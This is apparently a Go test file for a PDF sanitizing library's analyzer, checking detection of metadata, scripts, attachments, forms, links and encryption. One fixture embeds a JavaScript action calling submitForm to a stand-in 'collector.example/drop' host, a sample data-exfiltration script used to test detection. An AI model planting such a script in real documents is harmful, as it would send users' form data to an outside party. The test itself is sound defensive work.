package sanitize

import (
	"strings"
	"testing"

	"github.com/wudi/pdfredact/object"
)

func TestAnalyzeInventory(t *testing.T) {
	doc := fixtureDocument()
	a := Analyze(doc)

	if len(a.MetadataKeys) != 3 { // Title, Author, XMP
		t.Errorf("MetadataKeys = %v, want 3 entries", a.MetadataKeys)
	}
	if !a.JavaScriptFound {
		t.Error("OpenAction not reported as script risk")
	}
	if a.EmbeddedFileCount != 2 {
		t.Errorf("EmbeddedFileCount = %d, want 2", a.EmbeddedFileCount)
	}
	if a.LinkCount != 2 {
		t.Errorf("LinkCount = %d, want 2", a.LinkCount)
	}
	if !a.FormsFound {
		t.Error("AcroForm not reported")
	}
	if a.AnnotationCount != 5 {
		t.Errorf("AnnotationCount = %d, want 5", a.AnnotationCount)
	}
	if a.ThumbnailCount != 1 {
		t.Errorf("ThumbnailCount = %d, want 1", a.ThumbnailCount)
	}
	if len(a.Warnings) == 0 {
		t.Error("no warnings derived")
	}

	// Analysis is read-only.
	if doc.Info.Len() != 2 || !doc.Root.Has("AcroForm") {
		t.Fatal("Analyze modified the document")
	}
}

func TestAnalyzeScriptInspection(t *testing.T) {
	doc := object.NewDocument()
	action := object.NewDict()
	action.Set("S", object.NameOf("JavaScript"))
	action.Set("JS", object.Str(`this.submitForm("https://collector.example/drop");`))
	annot := object.NewDict()
	annot.Set("Subtype", object.NameOf("Widget"))
	annot.Set("A", action)
	page := object.NewDict()
	page.Set("Annots", object.NewArray(annot))
	doc.Pages = append(doc.Pages, page)

	a := Analyze(doc)
	if !a.JavaScriptFound {
		t.Fatal("embedded script not detected")
	}
	if len(a.ScriptCalls) != 1 || a.ScriptCalls[0] != "submitForm" {
		t.Fatalf("ScriptCalls = %v, want [submitForm]", a.ScriptCalls)
	}
}

func TestAnalyzeUnparsableScript(t *testing.T) {
	doc := object.NewDocument()
	action := object.NewDict()
	action.Set("S", object.NameOf("JavaScript"))
	action.Set("JS", object.Str(`function ( { broken`))
	annot := object.NewDict()
	annot.Set("A", action)
	page := object.NewDict()
	page.Set("Annots", object.NewArray(annot))
	doc.Pages = append(doc.Pages, page)

	a := Analyze(doc)
	if len(a.ScriptCalls) != 1 || !strings.Contains(a.ScriptCalls[0], "unparsable") {
		t.Fatalf("ScriptCalls = %v, want unparsable note", a.ScriptCalls)
	}
}

func TestAnalyzeRichTextExternalReference(t *testing.T) {
	doc := object.NewDocument()
	annot := object.NewDict()
	annot.Set("Subtype", object.NameOf("FreeText"))
	annot.Set("RC", object.Str(`<body><p>see <a href="https://example.com/x">this</a></p></body>`))
	page := object.NewDict()
	page.Set("Annots", object.NewArray(annot))
	doc.Pages = append(doc.Pages, page)

	a := Analyze(doc)
	if a.RichTextFields != 1 {
		t.Fatalf("RichTextFields = %d, want 1", a.RichTextFields)
	}
	found := false
	for _, w := range a.Warnings {
		if strings.Contains(w, "external resource") && strings.Contains(w, "example.com") {
			found = true
		}
	}
	if !found {
		t.Fatalf("Warnings = %v, want external resource note", a.Warnings)
	}
}

func TestAnalyzeEncrypted(t *testing.T) {
	doc := object.NewDocument()
	doc.Encrypted = true
	a := Analyze(doc)
	if !a.Encrypted {
		t.Fatal("encryption flag not carried")
	}
	found := false
	for _, w := range a.Warnings {
		if strings.Contains(w, "encrypted") {
			found = true
		}
	}
	if !found {
		t.Fatalf("Warnings = %v, want encryption note", a.Warnings)
	}
}
